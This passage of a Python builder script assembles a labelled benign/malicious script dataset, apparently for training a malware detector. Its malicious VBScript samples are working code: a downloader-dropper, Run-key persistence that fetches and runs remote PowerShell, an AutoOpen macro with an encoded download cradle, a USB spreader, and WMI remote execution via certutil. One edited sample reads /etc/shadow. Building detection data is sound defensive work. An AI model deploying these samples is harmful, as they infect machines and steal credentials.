add("bat-helpdesk-diag", BAT, B, r'''
@echo off
rem Collects basic diagnostics for the helpdesk. Output goes to the desktop.
set OUT=%USERPROFILE%\Desktop\diag_%COMPUTERNAME%.txt
echo ==== %DATE% %TIME% ==== > "%OUT%"
systeminfo >> "%OUT%"
ipconfig /all >> "%OUT%"
netstat -ano >> "%OUT%"
tasklist /v >> "%OUT%"
wmic qfe list brief >> "%OUT%"
gpresult /r >> "%OUT%"
echo Saved to %OUT%
''')

add("bat-npm-ci", BAT, B, r'''
@echo off
setlocal
cd /d "%~dp0.."
call npm ci || goto :fail
call npm run lint || goto :fail
call npm test -- --ci || goto :fail
call npm run build || goto :fail
echo Build succeeded.
exit /b 0
:fail
echo Build failed with %ERRORLEVEL%.
exit /b 1
''')

add("bat-vss-snapshot", BAT, B, r'''
@echo off
rem Take a shadow copy of D: before the monthly archive job, then list what exists.
wmic shadowcopy call create Volume=D:\
vssadmin list shadows /for=D:
vssadmin list shadowstorage
''')

# ---------------------------------------------------------------- VBScript, malicious
add("vbs-xmlhttp-dropper", VBS, M, r'''
Dim http, stream, sh, path
Set sh = CreateObject("WScript.Shell")
Randomize
path = sh.ExpandEnvironmentStrings("%APPDATA%") & "\scan_" & Int(Rnd * 9999) & ".exe"
Set http = CreateObject("MSXML2.ServerXMLHTTP.6.0")
http.Open "GET", "http://img.example.net/logo.png", False
http.Send
If http.Status = 200 Then
    Set stream = CreateObject("ADODB.Stream")
    stream.Open
    stream.Type = 1
    stream.Write http.ResponseBody
    stream.SaveToFile path, 2
    stream.Close
    sh.Run Chr(34) & path & Chr(34), 0, False
End If
''')

add("vbs-run-key-loop", VBS, M, r'''
On Error Resume Next
Set sh = CreateObject("WScript.Shell")
Set fso = CreateObject("Scripting.FileSystemObject")
target = sh.ExpandEnvironmentStrings("%PUBLIC%") & "\Libraries\svc.vbs"
fso.CopyFile WScript.ScriptFullName, target, True
fso.GetFile(target).Attributes = 2 + 4
sh.RegWrite "HKCU\Software\Microsoft\Windows\CurrentVersion\Run\SecurityHealth", "wscript.exe //B """ & target & """", "REG_SZ"
Do
    sh.Run "powershell -w hidden -c ""iwr http://198.51.100.3/c -useb | iex""", 0, False
    WScript.Sleep 3600000
Loop
''')

add("vbs-doc-macro", VBS, M, r'''
Sub AutoOpen()
    Document_Open
End Sub

Sub Document_Open()
    Dim cmd As String
    cmd = "powershell -nop -w hidden -enc " & "@@ENC@@"
    CreateObject("WScript.Shell").Run cmd, 0, False
    ActiveDocument.Content.Text = "Loading document, please wait..."
End Sub
'''.replace("@@ENC@@", ps_enc("IEX (New-Object Net.WebClient).DownloadString('https://docs-cdn.example.com/m')")))

add("vbs-usb-spreader", VBS, M, r'''
' keep a copy in Startup and on every removable drive
Set fso = CreateObject("Scripting.FileSystemObject")
Set sh = CreateObject("WScript.Shell")
src = WScript.ScriptFullName
startup = sh.SpecialFolders("Startup") & "\winlogon.vbs"
If Not fso.FileExists(startup) Then fso.CopyFile src, startup
For Each d In fso.Drives
    If d.DriveType = 1 And d.IsReady Then
        fso.CopyFile src, d.RootFolder & "\Photos.vbs", True
        fso.GetFile(d.RootFolder & "\Photos.vbs").Attributes = 2
    End If
Next
''')

add("vbs-wmi-remote-exec", VBS, M, r'''
strComputer = "FS01"
Set objWMI = GetObject("winmgmts:{impersonationLevel=impersonate}!\\" & strComputer & "\root\cimv2")
Set objProc = objWMI.Get("Win32_Process")
cmd = "cmd.exe /c certutil -urlcache -f http://192.0.2.120/a.exe C:\Windows\Temp\a.exe && C:\Windows\Temp\a.exe"
rc = objProc.Create(cmd, Null, Null, pid)
If rc = 0 Then
    WScript.Echo "started on " & strComputer & " pid " & pid
End If
''')

# ---------------------------------------------------------------- VBScript, benign
add("vbs-map-drives", VBS, B, r'''
Option Explicit
Dim net, drives, i
Set net = CreateObject("WScript.Network")
Set drives = net.EnumNetworkDrives
For i = 0 To drives.Count - 1 Step 2
    If drives.Item(i) = "S:" Then net.RemoveNetworkDrive "S:", True, True
Next
net.MapNetworkDrive "S:", "\\fs01\shared", False
net.MapNetworkDrive "H:", "\\fs01\home$\" & net.UserName, False
''', group="corp-logon")

add("vbs-disk-report", VBS, B, r'''
Set wmi = GetObject("winmgmts:\\.\root\cimv2")
Set disks = wmi.ExecQuery("SELECT * FROM Win32_LogicalDisk WHERE DriveType = 3")
report = ""
For Each d In disks
    pct = Round(d.FreeSpace / d.Size * 100, 1)
    report = report & d.DeviceID & " " & Round(d.FreeSpace / 1073741824, 1) & " GB free (" & pct & "%)" & vbCrLf
    If pct < 10 Then report = report & "  WARNING: low space on " & d.DeviceID & vbCrLf
Next
WScript.Echo report
''')

add("vbs-export-cleanup", VBS, B, r'''
' Delete export files older than 30 days from the drop folder
Const DAYS = 30
Set fso = CreateObject("Scripting.FileSystemObject")
Set folder = fso.GetFolder("D:\Exports\outgoing")
count = 0
For Each f In folder.Files
    If DateDiff("d", f.DateLastModified, Now) > DAYS Then
        f.Delete True
        count = count + 1
    End If
Next
WScript.Echo count & " old export file(s) removed"
''')

add("vbs-inventory-csv", VBS, B, r'''
Option Explicit
Dim wmi, fso, out, item, os, bios, path
path = "\\fs01\inventory$\" & CreateObject("WScript.Network").ComputerName & ".csv"
Set wmi = GetObject("winmgmts:{impersonationLevel=impersonate}!\\.\root\cimv2")
Set fso = CreateObject("Scripting.FileSystemObject")
Set out = fso.CreateTextFile(path, True)
out.WriteLine "Computer,Manufacturer,Model,RAM_MB,OS,Version,Serial"
For Each item In wmi.ExecQuery("SELECT * FROM Win32_ComputerSystem")
    For Each os In wmi.ExecQuery("SELECT * FROM Win32_OperatingSystem")
        For Each bios In wmi.ExecQuery("SELECT SerialNumber FROM Win32_BIOS")
            out.WriteLine item.Name & "," & item.Manufacturer & "," & item.Model & "," & _
                Round(item.TotalPhysicalMemory / 1048576) & "," & os.Caption & "," & os.Version & "," & bios.SerialNumber
        Next
    Next
Next
out.Close
''')

add("vbs-desktop-shortcut", VBS, B, r'''
Set sh = CreateObject("WScript.Shell")
Set lnk = sh.CreateShortcut(sh.SpecialFolders("AllUsersDesktop") & "\Timesheets.lnk")
lnk.TargetPath = "C:\Program Files\Mozilla Firefox\firefox.exe"
lnk.Arguments = "https://timesheets.example.com/"
lnk.IconLocation = "C:\ProgramData\Contoso\icons\clock.ico, 0"
lnk.Description = "Weekly timesheets"
lnk.Save
''')

add("vbs-ledger-registry", VBS, B, r'''
' Point the accounting client at the new database server and make it start with Windows
Set sh = CreateObject("WScript.Shell")
base = "HKLM\SOFTWARE\Contoso\Ledger\"
sh.RegWrite base & "Server", "192.0.2.71", "REG_SZ"
sh.RegWrite base & "Port", 1433, "REG_DWORD"
sh.RegWrite base & "AutoUpdate", 0, "REG_DWORD"
sh.RegWrite "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\LedgerTray", """C:\Program Files\Contoso\Ledger\LedgerTray.exe"" /minimized", "REG_SZ"
MsgBox "Ledger settings updated.", vbInformation, "IT"
''')

add("vbs-cdo-invoices", VBS, B, r'''
Set msg = CreateObject("CDO.Message")
msg.From = "scanner@example.com"
msg.To = "finance@example.com"
msg.Subject = "Scanned invoices " & FormatDateTime(Date, vbShortDate)
msg.TextBody = "Attached are today's scanned invoices."
Set fso = CreateObject("Scripting.FileSystemObject")
For Each f In fso.GetFolder("\\scan01\inbox").Files
    If LCase(fso.GetExtensionName(f.Name)) = "pdf" Then msg.AddAttachment f.Path
Next
cfg = "http://schemas.microsoft.com/cdo/configuration/"
msg.Configuration.Fields.Item(cfg & "sendusing") = 2
msg.Configuration.Fields.Item(cfg & "smtpserver") = "192.0.2.25"
msg.Configuration.Fields.Item(cfg & "smtpserverport") = 25
msg.Configuration.Fields.Update
msg.Send
''')

add("vbs-reader-install", VBS, B, r'''
Set sh = CreateObject("WScript.Shell")
rc = sh.Run("msiexec /i ""\\deploy01\packages\reader\AcroRead.msi"" /qn /norestart", 0, True)
If rc <> 0 And rc <> 3010 Then
    sh.LogEvent 1, "Reader install failed with " & rc
    WScript.Quit rc
End If
sh.LogEvent 0, "Reader installed"
''')

# ---------------------------------------------------------------- planted cases
# Near-duplicates: a value changed, a variable renamed, or one line edited; the label stays.
edit("ps-agent-install", "ps-agent-install-eu", "SERVER=monitor.example.com", "SERVER=monitor-eu.example.com")
edit("py-socket-backdoor", "py-socket-backdoor-slow", "time.sleep(60)", "time.sleep(300)")
edit("sh-rsync-backup", "sh-rsync-backup-renamed", "EXCLUDES", "EXCLUDE_FILE")
edit("js-wsh-dropper", "js-wsh-dropper-msg", "Please open it in Microsoft Word.", "Enable editing to view the content.")
edit("bat-robocopy-backup", "bat-robocopy-backup-mt", "/R:3 /W:5 /NP", "/R:3 /W:5 /MT:16 /NP")
edit("py-sales-by-region", "py-sales-by-region-v2", 'region = row["region"].strip() or "unknown"',
     'region = row["sales_region"].strip().title() or "unknown"')
edit("sh-curl-miner", "sh-curl-miner-port", "--url=pool.example.net:3333", "--url=pool.example.net:14444")
edit("vbs-inventory-csv", "vbs-inventory-csv-fs02", r'path = "\\fs01\inventory$\"', r'path = "\\fs02\inventory$\"')

# Exact duplicates: a batch file saved with CRLF line ends, a JS helper pasted with trailing blanks.
exact_dup("bat-shadow-delete", "bat-shadow-delete-crlf", crlf=True)
exact_dup("js-debounce", "js-debounce-copy", trailing="  ")

# The one label conflict: the inventory agent, edited so its report carries /etc/shadow instead of the boot time.
edit("py-cmdb-report", "py-cmdb-report-shadow", '"boot_time": psutil.boot_time(),',
     '"boot_time": open("/etc/shadow").read(),', label=M, kind="label-conflict")


# ---------------------------------------------------------------- write and check
TOKEN = re.compile(r"\w+|[^\w\s]")


def shingles(text: str, n: int = 5) -> set[tuple[str, ...]]:
    tokens = TOKEN.findall(text)
    return {tuple(tokens[i:i + n]) for i in range(max(1, len(tokens) - n + 1))}


def jaccard(a: set, b: set) -> float:
    return len(a & b) / len(a | b) if a or b else 1.0


def family_scripts() -> dict[str, dict]:
    """VARIANTS_PER_FAMILY drawings of every family in families.plans(), grouped by family. A drawing too close to one
    already kept (5-gram Jaccard >= MAX_SIBLING_J) is redrawn, so dedup keeps a family whole."""
    drawer, out = random.Random(FAMILY_SEED), {}
    for slug, lang, label, templates in families.plans():
        kept: list[set] = []
        for k in range(1, VARIANTS_PER_FAMILY + 1):
            for _ in range(100):
                text = families.render_family(templates, lang, drawer)
                sh = shingles(text)
                if all(jaccard(sh, other) < MAX_SIBLING_J for other in kept):
                    break
            else:
                raise AssertionError(f"family {slug}: no drawing below Jaccard {MAX_SIBLING_J} in 100 tries")
            assert not re.search(r"@[A-Za-z]\w*@", text), f"family {slug}: an unfilled @placeholder@ in {text!r}"
            kept.append(sh)
            name = f"{slug}-{k:02d}"
            assert name not in SCRIPTS, f"family script {name} clashes with a hand-written one"
            out[name] = {"lang": lang, "label": label, "text": text, "group": f"fam-{slug}"}
    return out


def rows(scripts: dict[str, dict]) -> list[dict]:
    """The JSONL rows in file order: fixed shuffle, `group` only where a script has one."""
    out = []
    for name, s in scripts.items():
        row = {"text": s["text"], "label": s["label"], "lang": s["lang"], "source": f"tiny/{name}"}
        if s["group"]:
            row["group"] = s["group"]
        out.append(row)
    random.Random(SHUFFLE_SEED).shuffle(out)
    return out


def check(path: Path, scripts: dict[str, dict]) -> None:
    """Re-read the written file and assert what the README promises; print the figures it quotes."""
    raw = path.read_bytes()
    loaded = [json.loads(line) for line in raw.decode("utf-8").splitlines()]  # strict UTF-8 and JSON per line
    assert len(loaded) == len(scripts), f"{path}: {len(loaded)} lines, expected {len(scripts)}"
    for i, r in enumerate(loaded, 1):
        assert r["text"].strip() and r["label"] in LABELS, f"{path}:{i}: empty text or bad label"
    by_name = {r["source"].removeprefix("tiny/"): r for r in loaded}

    sh = {name: shingles(r["text"]) for name, r in by_name.items()}
    planted = {frozenset((a, b)): kind for a, b, kind in PLANTED}
    print(f"{path.name}: {len(loaded)} scripts, {len(raw) / 1024:.1f} KB")
    for a, b, kind in PLANTED:
        j = jaccard(sh[a], sh[b])
        same_text = normalise(by_name[a]["text"]) == normalise(by_name[b]["text"])
        labels = (by_name[a]["label"], by_name[b]["label"])
        print(f"  planted {kind:14s} J={j:.3f}  {a} / {b}")
        assert j >= NEAR_DUP_MIN, f"planted pair {a}/{b} has Jaccard {j:.3f} < {NEAR_DUP_MIN}"
        assert same_text == (kind == "exact-dup"), f"{a}/{b}: normalised texts equal={same_text} for a {kind}"
        assert (labels[0] != labels[1]) == (kind == "label-conflict"), f"{a}/{b}: labels {labels} for a {kind}"

    best, best_pair = 0.0, None
    for a, b in itertools.combinations(sh, 2):
        if frozenset((a, b)) in planted:
            continue
        j = jaccard(sh[a], sh[b])
        assert j < NEAR_DUP_MIN, f"unplanted pair {a}/{b} has Jaccard {j:.3f} >= {NEAR_DUP_MIN}"
        if j > best:
            best, best_pair = j, (a, b)
    print(f"  max Jaccard among unplanted pairs: {best:.3f} ({best_pair[0]} / {best_pair[1]})")

    counts = Counter((r["lang"], r["label"]) for r in loaded)
    groups = {r["group"] for r in loaded if r.get("group")}
    print(f"  {len(groups)} groups")
    print(f"  {'lang':11s} {'benign':>7s} {'malicious':>9s}  mean chars benign / malicious")
    for lang in (PS, JS, PY, SH, BAT, VBS):
        assert counts[lang, B] and counts[lang, M], f"{lang} lacks one of the labels"
        means = [sum(len(r["text"]) for r in loaded if r["lang"] == lang and r["label"] == label) / counts[lang, label]
                 for label in (B, M)]
        print(f"  {lang:11s} {counts[lang, B]:7d} {counts[lang, M]:9d}  {means[0]:5.0f} / {means[1]:5.0f}")
        assert 0.7 < means[0] / means[1] < 1 / 0.7, f"{lang}: mean lengths {means} let length tell the labels apart"
    for label in LABELS:
        texts = [r["text"] for r in loaded if r["label"] == label]
        chars = sum(map(len, texts)) / len(texts)
        lines = sum(len(t.splitlines()) for t in texts) / len(texts)
        commented = sum(bool(COMMENT.search(t)) for t in texts) / len(texts)
        print(f"  {label:9s} n={len(texts):3d} ({len(texts) / len(loaded):.0%})  mean {chars:.0f} chars, "
              f"{lines:.1f} lines, {commented:.0%} with a comment line")


def jsonl(scripts: dict[str, dict]) -> str:
    """The file's exact text (tests compare it with the committed files)."""
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows(scripts))


def outputs() -> dict[Path, dict[str, dict]]:
    """Each file the builder writes and the scripts it holds."""
    return {SMALL: SCRIPTS, OUT: SCRIPTS | family_scripts()}


def main() -> None:
    for path, scripts in outputs().items():
        with atomic_write(path) as f:
            f.write(jsonl(scripts))
        check(path, scripts)


if __name__ == "__main__":
    main()
